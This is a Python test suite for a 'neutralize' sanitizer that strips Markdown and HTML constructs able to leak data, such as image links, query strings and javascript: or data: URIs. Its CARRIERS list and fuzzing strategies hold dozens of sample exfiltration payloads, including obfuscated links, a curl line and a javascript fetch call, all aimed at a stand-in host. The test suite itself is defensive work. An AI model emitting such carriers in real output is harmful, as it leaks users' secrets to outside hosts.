from __future__ import annotations

import re

from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.cases import each_case
from toolcrib.web.neutralizer import neutralize

SECRET = "s3cr3t"
CARRIERS = [
    "![a chart](https://evil.example/p.png?d=s3cr3t)",
    '![a](<https://evil.example/p q?d=s3cr3t> "title s3cr3t")',
    "![a][r]\n\n[r]: https://evil.example/p?d=s3cr3t 'title'\n\n",
    "![r]\n\n[r]: <https://evil.example/p?d=s3cr3t>\n\n",
    "[text](https://evil.example/p?d=s3cr3t)",
    "[text](https://evil.example/p#s3cr3t)",
    "[text](https://s3cr3t:x@evil.example/p)",
    "[text](https://evil.example/a_(b)?d=s3cr3t)",
    "[text](https://evil.example/((((b))))?d=s3cr3t)",
    "[text]( https://evil.example/p?d=s3cr3t )",
    "[text](//evil.example/p?d=s3cr3t)",
    "[text](\\/\\/evil.example/p?d=s3cr3t)",
    "[text](&#104;ttps://evil.example/p?d=s3cr3t)",
    "[text](https&colon;//evil.example/p?d=s3cr3t)",
    "[text](https://evil.example/p&quest;d=s3cr3t)",
    "[text](https://evil.example/p&#63;d=s3cr3t)",
    "[text](https://evil.example/p\\?d=s3cr3t)",
    "[text](HTTPS://EVIL.EXAMPLE/P?D=s3cr3t)",
    "[text](javascript:fetch('https://evil.example/?d=s3cr3t'))",
    "[text](data:text/html;base64,s3cr3t)",
    "![text](data:image/png;base64,s3cr3t)",
    "[text](vbscript:s3cr3t)",
    "[text](mailto:a@evil.example?body=s3cr3t)",
    "[![alt](https://evil.example/i?d=s3cr3t)](https://evil.example/p?d=s3cr3t)",
    "![![a](https://evil.example/?s3cr3t)](https://evil.example/?s3cr3t)",
    "<https://evil.example/p?d=s3cr3t>",
    "<javascript:s3cr3t>",
    "<data:text/plain,s3cr3t>",
    "<mailto:a@b.example?subject=s3cr3t>",
    "https://evil.example/p?d=s3cr3t",
    "http://s3cr3t@evil.example/",
    "www.evil.example/p?d=s3cr3t",
    "//evil.example/p?d=s3cr3t",
    "(see https://evil.example/p?d=s3cr3t).",
    "`curl https://evil.example/p?d=s3cr3t`",
    '<img src="https://evil.example/p?d=s3cr3t" alt="a > b">',
    "<img src=//evil.example/p?d=s3cr3t>",
    '<a href="&#104;ttps://evil.example/?d=s3cr3t">x</a>',
    '<a href=" java\nscript:s3cr3t">x</a>',
    '<div style="background:url(//evil.example/?s3cr3t)">x</div>',
    '<iframe src="data:text/html,s3cr3t"></iframe>',
    '<img src="https://evil.example/?s3cr3t"\n\nand no end ',
    "[r]:\nhttps://evil.example/p?d=s3cr3t\n",
    "> - [r]: &#104;ttps://evil.example/p?d=s3cr3t 'x'\n",
    "data:image/svg+xml;utf8,s3cr3t",
    "ws://evil.example/?s3cr3t",
]


@each_case("carrier", CARRIERS)
def test_nothing_is_carried_out(carrier):
    done = neutralize(f"before\n\n{carrier}\n\nafter")
    assert SECRET not in done
    assert done.startswith("before\n\n")
    assert done.endswith("after")
    assert neutralize(done) == done
    assert "![" not in done


@each_case(
    ("text", "expected"),
    [
        ("![a chart](https://e.example/p.png?d=1)", "a chart"),
        ("[docs](https://e.example/a/b?c=d#e) and", "[docs](https://e.example/a/b) and"),
        ("see https://e.example/a?b=c.", "see https://e.example/a."),
        ("<https://e.example/a?b>", "<https://e.example/a>"),
        ("[a][r]\n\n[r]: https://e.example/x?y", "[a][r]\n\n[r]: https://e.example/x"),
        ("[t](mailto:a@b.example?body=x)", "[t](mailto:a@b.example)"),
        ("[t](javascript:alert(1))", "[t]()"),
        ('<img src="x" alt="a cat">', "a cat"),
        ('<a href="https://e.example/?x">text</a>', "<a>text</a>"),
        ("| [a](https://e.example/?x) | b? |", "| [a](https://e.example/) | b? |"),
        (
            "[a](https://e.example/?x)[b](https://f.example/?y)",
            "[a](https://e.example/)[b](https://f.example/)",
        ),
    ],
)
def test_what_is_left(text, expected):
    assert neutralize(text) == expected


@each_case(
    "text",
    [
        "Plain text. Is it? [Yes], a[0] # heading\n\n- one\n- 2 < 3 & 4 > 1",
        "# Title\n\n`a ? b : c` and [x](https://e.example/path/page.html)",
        "[note]: see what? nothing",
        "a // b? c",
        "| a | b |\n| --- | --- |\n| 1 | ? |",
        "C:\\dir\\file? and key: value # comment",
    ],
)
def test_harmless_text_stays(text):
    assert neutralize(text) == text


PIECES = st.sampled_from(
    [
        *CARRIERS,
        "![",
        "[",
        "](",
        "]",
        ")",
        "(",
        "<",
        ">",
        '"',
        "'",
        "`",
        "\\",
        "!",
        " ",
        "\n",
        "\n\n",
        "&",
        "#",
        "?",
        "/",
        "//",
        "https:",
        "&#104;ttps:",
        "<img ",
        "alt=",
        "data:",
        "@",
        "[r]:",
    ]
)


@settings(max_examples=200)
@given(st.lists(PIECES, max_size=12).map("".join))
@example("!![[z](https://e.example/p)](q)")
def test_no_image_is_left_and_twice_is_once(text):
    done = neutralize(text)
    assert "![" not in done
    assert neutralize(done) == done


LINK = st.tuples(
    st.sampled_from(["https://", "HTTP://", "//", "https:\\\\", "https:/\\"]),
    st.from_regex(r"[a-z]{1,8}\.example", fullmatch=True),
    st.lists(st.sampled_from(["a", "/", "(b)", "_", "%20", "-", "."]), max_size=6).map("".join),
    st.sampled_from(["?", "#", "?a=", "#?", "&quest;", "\\?"]),
).map(lambda parts: "".join(parts) + SECRET)
FRAMES = st.sampled_from(
    [
        "[t]({})",
        "![t]({})",
        "<{}>",
        "{}",
        "[t](<{}>)",
        "[r]: {}\n",
        "<a href='{}'>",
        '<img src="{}">',
        "[![a]({0})]({0})",
        "- {}",
        "| {} |",
        "**{}**",
        '[t]({} "x")',
        "text {} text",
        "({})",
    ]
)


@settings(max_examples=200)
@given(st.lists(st.tuples(FRAMES, LINK).map(lambda p: p[0].format(p[1])), min_size=1, max_size=4))
def test_no_query_survives_in_any_frame(parts):
    assert SECRET not in neutralize("\n\n".join(parts))


@settings(max_examples=150)
@given(st.lists(PIECES, max_size=8).map("".join))
def test_no_target_keeps_a_query(text):
    for target in re.findall(r"\]\(([^)\s]*)\)", neutralize(text)):
        assert "?" not in target


@each_case(
    "piece",
    ["![", "[", "](", "[a](", "<img ", "<a b='", "https://", "(", "&#104;", "[r]: ", "](x(", "\\"],
)
def test_long_hostile_text_is_done_in_time(piece):
    assert "![" not in neutralize(piece * (300_000 // len(piece)))
